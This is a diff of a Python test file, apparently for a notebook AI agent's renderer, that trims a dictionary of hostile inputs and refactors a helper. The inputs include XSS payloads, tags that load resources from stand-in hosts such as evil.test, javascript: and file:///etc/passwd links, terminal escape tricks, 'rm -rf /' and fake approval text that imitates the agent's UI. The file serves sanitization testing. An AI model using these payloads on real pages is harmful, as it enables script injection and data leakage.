@@ -31,55 +31,32 @@ _CALL = '{"path":"/x"}'
 PAYLOADS: dict[str, str] = {
     # HTML that runs something.
     "script": f"<script>{_GO}</script>",
-    "script, odd case": f"<ScRiPt/x>{_GO}</sCrIpT>",
     "script, remote": f'<script src="{_AT}/a.js"></script>',
-    "script, module": f'<script type="module">import "{_AT}/m.js"</script>',
     "img onerror": f'<img src=x onerror="{_GO}">',
-    "img onerror, no spaces": f"<img/src=`x`/onerror={_GO}>",
     "svg onload": f'<svg onload="{_GO}"></svg>',
-    "svg script": f"<svg><script>{_GO}</script></svg>",
-    "svg animate": f"<svg><animate onbegin={_GO} attributeName=x dur=1s></svg>",
-    "svg use": f'<svg><use href="{_AT}/s.svg#x"/></svg>',
     "svg foreignObject": f"<svg><foreignObject><img src=x onerror={_GO}></foreignObject></svg>",
-    "body onload": f'<body onload="{_GO}">',
     "details ontoggle": f'<details open ontoggle="{_GO}">x</details>',
     "input autofocus": f'<input autofocus onfocus="{_GO}">',
-    "video onerror": f'<video><source onerror="{_GO}"></video>',
-    "marquee": f'<marquee onstart="{_GO}">x</marquee>',
     "handler breakout": f'" onmouseover="{_GO}" x="',
-    "single-quote breakout": f"' autofocus onfocus='{_GO}' x='",
     "iframe srcdoc": "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
     "iframe javascript": '<iframe src="javascript:parent.__pwned=1"></iframe>',
-    "object": f'<object data="{_AT}/o.swf"></object>',
-    "embed": f'<embed src="{_AT}/e">',
-    "custom element": f'<x-y is="z" style="animation-name:x" onanimationstart="{_GO}"></x-y>',
-    "template": f"<template><script>{_GO}</script></template>",
     "noscript mutation": f'<noscript><p title="</noscript><img src=x onerror={_GO}>"></noscript>',
     "math mutation": f"<math><mtext><table><mglyph><style><img src=x onerror={_GO}></style>",
     "svg style mutation": f'<svg></p><style><a id="</style><img src=1 onerror={_GO}>">',
     "title breakout": f"</title><script>{_GO}</script>",
-    "textarea breakout": f"</textarea><img src=x onerror={_GO}>",
-    "script breakout": f"</script><script>{_GO}</script>",
     "style breakout": f"</style><img src=x onerror={_GO}>",
     "comment breakout": f"--><img src=x onerror={_GO}><!--",
-    "cdata breakout": f"]]><img src=x onerror={_GO}>",
     "details breakout": "</pre></td></table></div></details></details><h1>Answered</h1>",
     "summary breakout": f"</summary></code></span><button onclick={_GO}>Approve</button>",
     # HTML that loads or sends something.
     "img remote": f'<img src="{_AT}/p.png?q=secret">',
-    "img srcset": f'<img srcset="{_AT}/p.png 2x">',
-    "picture": f'<picture><source srcset="{_AT}/p.webp"><img></picture>',
-    "css link": f'<link rel="stylesheet" href="{_AT}/a.css">',
     "prefetch": f'<link rel="dns-prefetch" href="//evil.test"><link rel="preload" href="{_AT}/l">',
     "base": f'<base href="{_AT}/">',
     "meta refresh": f'<meta http-equiv="refresh" content="0;url={_AT}/m">',
     "style import": f"<style>@import url({_AT}/i.css);</style>",
-    "style url": f'<div style="background:url({_AT}/b.png)">x</div>',
     "css injection": f"}}</style><style>.nba-stop{{display:none}}*{{background:url({_AT}/c)}}",
     "style attribute": 'x;position:fixed;inset:0;z-index:9" style="position:fixed;inset:0',
     "form": f'<form action="{_AT}/f"><input name=k value=v><button>Approve</button></form>',
-    "audio": f'<audio autoplay src="{_AT}/a.mp3"></audio>',
-    "frame": f'<frameset><frame src="{_AT}/f"></frameset>',
     "dangling markup": f"<img src='{_AT}/d?",
     "command linker": f"<button data-commandlinker-command='filebrowser:open-path' "
     f"data-commandlinker-args='{_CALL}' data-trust-command='true'>run</button>",
@@ -87,14 +64,11 @@ PAYLOADS: dict[str, str] = {
     "dom clobbering": '<form id="document"><input name="querySelector"></form><a id="jupyterapp">',
     # Addresses.
     "link javascript": f"[click]({'javascript:' + _GO})",
-    "link javascript, tab": f"[click](java\tscript:{_GO})",
     "link javascript, entity": f"[click](&#106;avascript&colon;{_GO})",
     "link javascript, coded": f"[click](javascript%3A{_GO}) [b](%6Aavascript:{_GO})",
-    "link vbscript": "[click](vbscript:msgbox(1))",
     "link data": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
     "link command": "[click](command:workbench.action.terminal.new) [v](vscode://file/etc/passwd)",
     "link file": "[click](file:///etc/passwd) [r](../../lab) [s](//evil.test/x)",
-    "link title": f'[click](https://evil.test/ "x\\" onmouseover=\\"{_GO}")',
     "reference link": f"[click][1]\n\n[1]: javascript:{_GO}\n",
     "autolink": f"<javascript:{_GO}> <data:text/html,x> https://evil.test/auto www.evil.test",
     "image markdown": f"![i]({_AT}/i.png) ![j][k]\n\n[k]: {_AT}/k.png",
@@ -104,17 +78,14 @@ PAYLOADS: dict[str, str] = {
     "fence breakout": f"```\n</code></pre><script>{_GO}</script>\n```\n~~~\n![i]({_AT}/f.png)\n~~~",
     "table": f"|a|\n|-|\n|![i]({_AT}/t.png)<img src={_AT}/t2.png>|",
     "entities": f"&lt;script&gt;{_GO}&lt;/script&gt; &#60;img src=x onerror={_GO}&#62; &NewLine;",
-    "double entities": f"&amp;lt;script&amp;gt;{_GO}&amp;lt;/script&amp;gt;",
     # TeX, which JupyterLab and nbconvert typeset in any output.
     "tex href": f"$\\href{{javascript:{_GO}}}{{click}}$ \\(\\href{{{_AT}}}{{x}}\\)",
     "tex require": "$\\require{action}\\toggle{a}{b}\\endtoggle$ $$\\require{html}$$",
     "tex style": f"$\\style{{background:url({_AT}/tex.png)}}{{x}} \\class{{nba-stop}}{{y}}$",
-    "tex unicode": "\\[\\unicode{x3c}script\\unicode{x3e}\\] \\begin{equation}x\\end{equation}",
     "tex prices": "it costs $5 and not $6; {{ 7*7 }} {% raw %} ${env:HOME}",
     # Terminals.
     "ansi": "\x1b[31mred\x1b[0m \x1b[2J\x1b[1;1H\x9b31m",
     "osc 8": f"\x1b]8;;{_AT}/osc\x07click\x1b]8;;\x07 \x1b]0;title\x07 \x1b]52;c;YQ==\x07",
-    "ansi in pieces": f"\x1b[3\x1b]8;;{_AT}\x1b\\1m \x1bP+q\x1b\\ \x1b",
     "carriage return": "rm -rf /\recho safe\b\b\b\x7f",
     # Characters.
     "bidi": "safe\u202etxt.exe\u202c \u2066a\u2069 \u061c",
@@ -130,7 +101,6 @@ PAYLOADS: dict[str, str] = {
     "nested quotes": ">" * 10_000 + " deep",
     "nested brackets": "[" * 10_000,
     "nested lists": "- " * 10_000,
-    "nested html": "<div><b>" * 3000,
     # Looking like nbagent itself.
     "fake end": "</div></div></div><div class='nba-run'><div class='nba-error'>✕ deleted</div>",
     "fake approval": "note: approved by you\n%agent resume",
@@ -181,42 +151,26 @@ AUDIT = r"""
 def story_of(text: str) -> Story:
     """A run that shows a text in each of the places."""
     fine = tool_run("c1", text, {text: text, "k": [text]}, {text: [text, {text: text}]})
-    plain = tool_run("c2", "t", {"a": text}, text).model_copy(
-        update={
-            "approval": text,
-            "approved_by": text,
-            "notes": (text,),
-            "result": ToolResult(
-                ok=True,
-                data=text,
-                attachments=(
-                    TextPart(text=text),
-                    ImagePart(url=text, alt=text),
-                    ImagePart(media_type="image/svg+xml", data="PHN2Zz4=", alt=text),
-                    FilePart(name=text, media_type=text, data=""),
-                ),
-            ),
-        }
+    attachments = (
+        TextPart(text=text),
+        ImagePart(url=text, alt=text),
+        ImagePart(media_type="image/svg+xml", data="PHN2Zz4=", alt=text),
+        FilePart(name=text, media_type=text, data=""),
     )
+    result = ToolResult(ok=True, data=text, attachments=attachments)
+    said = {"approval": text, "approved_by": text, "notes": (text,), "result": result}
+    plain = tool_run("c2", "t", {"a": text}, text).model_copy(update=said)
     bad = tool_run("c3", "t", {}, ErrorInfo("E_TOOL_FAILED", text)).model_copy(
         update={"error_detail": text}
     )
-    response = ChatResponse(
-        message=Message.of("assistant", text),
-        meta=ResponseMeta(dropped_params=(text,), attempts=2),
-    )
+    meta = ResponseMeta(dropped_params=(text,), attempts=2)
+    response = ChatResponse(message=Message.of("assistant", text), meta=meta)
     story = Story(text, name=text, tags=(text,))
     user = Message.of("user", text)
     tools = (ToolSpec(name=text, description=text),)
-    story.run = story.run.model_copy(
-        update={
-            "session": text,
-            "prompt": text,
-            "messages": (user,),
-            "system_prompts": {"s": text},
-            "toolsets": {toolset_sha(tools): tools, **story.run.toolsets},
-        }
-    )
+    toolsets = {toolset_sha(tools): tools, **story.run.toolsets}
+    begun = {"session": text, "prompt": text, "messages": (user,), "toolsets": toolsets}
+    story.run = story.run.model_copy(update={**begun, "system_prompts": {"s": text}})
     story.events[0] = events.RunStarted(story.run)
     story.turn(text, fine, plain, bad, reasoning=text, notices=(text,), agent=text, node=text)
     story.turn(text, response=response)
@@ -237,20 +191,7 @@ def _told(story: Story, text: str) -> Story:
         events.Notice("info", text, "C01"),
     ]
     begun = next(i for i, e in enumerate(story.events) if isinstance(e, events.ToolCallStarted))
-    story.events[begun:begun] = [
-        asked(
-            "c1",
-            text,
-            args,
-            host=text,
-            why=text,
-            scope=text,
-            pieces=(
-                PreviewPiece(text, text, "diff"),
-                PreviewPiece(text, text, "code"),
-                PreviewPiece(text, text),
-            ),
-        ),
-        events.ToolProgress("C01", "c1", text, 0.5),
-    ]
+    pieces = (PreviewPiece(text, text, "diff"), PreviewPiece(text, text, "code"))
+    question = asked("c1", text, args, host=text, why=text, scope=text, pieces=pieces)
+    story.events[begun:begun] = [question, events.ToolProgress("C01", "c1", text, 0.5)]
     return story
